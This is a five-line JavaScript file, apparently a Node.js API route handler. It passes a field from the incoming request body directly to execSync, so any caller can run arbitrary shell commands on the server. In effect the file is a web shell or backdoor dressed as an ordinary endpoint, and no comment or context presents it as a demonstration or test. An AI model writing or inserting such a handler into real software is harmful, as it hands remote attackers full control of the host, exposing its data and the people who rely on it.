import { execSync } from "node:child_process";
export default function handler(req, res) {
  execSync(req.body.a);
  res.json({});
}
